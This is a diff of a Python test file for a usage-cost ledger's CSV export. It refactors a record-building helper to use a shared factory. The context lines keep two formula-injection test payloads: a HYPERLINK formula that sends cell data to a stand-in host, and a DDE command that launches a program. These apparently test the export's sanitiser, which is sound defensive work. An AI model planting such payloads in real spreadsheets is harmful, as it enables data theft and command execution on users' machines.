@@ -17,8 +17,9 @@ from sqlalchemy import Engine
 
 from clirun import Cli, cli_runner
 from spendledger.exports.csvfile import safe_text, write_csv
-from spendledger.records import Basis, PricingStatus, UsageRecord
+from spendledger.records import UsageRecord
 from spendledger.store import write_records
+from usage_records import usage_record
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 CALC = "+cmd|' /C calc'!A0"
@@ -26,18 +27,14 @@ NOVEMBER = {"from": "2026-11-01", "to": "2026-11-30"}
 
 
 def _record(key: str, *, project: str, user: str, feature: str, cost: str) -> UsageRecord:
-    return UsageRecord(
+    return usage_record(
         key=key,
-        source="test",
-        basis=Basis.METERED,
         start=datetime(2026, 11, 2, 10, tzinfo=UTC),
-        provider="openai",
         model="gpt-4o",
         project=project,
         user=user,
         feature=feature,
-        cost=Decimal(cost),
-        pricing_status=PricingStatus.PROVIDER,
+        cost=cost,
     )
 
 
